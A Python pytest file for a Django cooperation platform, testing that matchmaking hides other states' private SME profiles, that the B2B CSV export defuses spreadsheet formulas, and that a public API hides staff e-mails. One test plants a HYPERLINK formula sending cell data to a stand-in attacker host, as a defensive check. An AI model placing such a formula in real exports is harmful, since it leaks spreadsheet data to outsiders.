"""Privacy across the exchange's apps: another state's non-public SMEs never reach a focal point
through matchmaking, SME names cannot smuggle formulas into the B2B schedule export, and the
public events API names no secretariat user."""

# ruff: noqa: F811 - fixtures come from the support modules imported below

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from d8coop.b2b import services as b2b_services
from d8coop.directory.models import SmeProfile
from tests.b2b_support import build_world, configure
from tests.consultations_support import _reference_data_once, reference_data  # noqa: F401
from tests.test_matchmaking_authorization import (  # noqa: F401
    OPPORTUNITY_API,
    OPPORTUNITY_PAGE,
    SME_API,
    SME_PAGE,
    _fast_hashes,
    world,
)

pytestmark = pytest.mark.django_db


# --------------------------------------------------------------------------- matchmaking


def test_opportunity_matches_do_not_name_other_states_non_public_smes(world, signed_in):
    """A focal point of Pakistan may not read Türkiye's non-public SME profile in the
    directory (404); the matches of Pakistan's opportunity must not name it either."""
    hidden = SmeProfile.objects.get(slug="ege-packaging-private")
    client = signed_in(world["hamid"])
    assert client.get(reverse("directory:detail", args=[hidden.slug])).status_code == 404
    html = client.get(OPPORTUNITY_PAGE).content.decode()
    assert "Indus Meats" in html  # its own state's SME, not public, is fine
    assert "Ege Packaging Private" not in html
    names = [m["name"] for m in client.get(OPPORTUNITY_API).json()["smes"]]
    assert "Indus Meats" in names
    assert "Ege Packaging Private" not in names
    # The secretariat sees every validated SME.
    names = [m["name"] for m in signed_in(world["secretariat"]).get(OPPORTUNITY_API).json()["smes"]]
    assert "Ege Packaging Private" in names


def test_sme_partner_matches_do_not_name_other_states_non_public_smes(world, signed_in):
    """Partner SMEs proposed to a focal point: public ones, and their own states' only."""
    client = signed_in(world["hamid"])
    assert "Ege Packaging Private" not in client.get(SME_PAGE).content.decode()
    names = [m["name"] for m in client.get(SME_API).json()["partners"]]
    assert "Klang Cold Chain" in names  # public
    assert "Ege Packaging Private" not in names


# --------------------------------------------------------------------------- B2B CSV


@pytest.fixture
def b2b_open(django_user_model, secretariat, outsider):
    w = build_world(django_user_model, secretariat, outsider)
    configure(w)
    return w


def test_b2b_schedule_csv_defuses_formulas_in_sme_names(signed_in, b2b_open):
    """SME names are typed by focal points and maintainers: a name starting with = must not
    run as a formula in the organizer's spreadsheet."""
    w = b2b_open
    w.a1.sme.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    w.a1.sme.save()
    meeting_request = b2b_services.request_send(by=w.maintainer_a1, sender=w.a1, recipient=w.b1)
    b2b_services.request_accept(by=w.fp_b, request=meeting_request)
    b2b_services.schedule_build(by=w.secretariat, event=w.event)
    response = signed_in(w.secretariat).get(reverse("b2b:csv", args=["expo-2026"]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert len(rows) == 2
    cells = rows[1]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert "'=HYPERLINK" in cells[4]


# --------------------------------------------------------------------------- participation API


def test_public_event_api_does_not_give_the_secretariat_users_e_mail(reference_data, secretariat):
    """Anonymous readers get an event's window and quotas, not who (which staff account) opened
    it: e-mail addresses of platform users are not public."""
    from rest_framework.test import APIClient

    from tests.participation_support import make_meeting, open_event

    event = open_event(secretariat, make_meeting())
    body = APIClient().get(f"/api/v1/events/{event.pk}/").json()
    assert body["meeting"] == event.meeting.slug
    assert secretariat.email not in str(body)
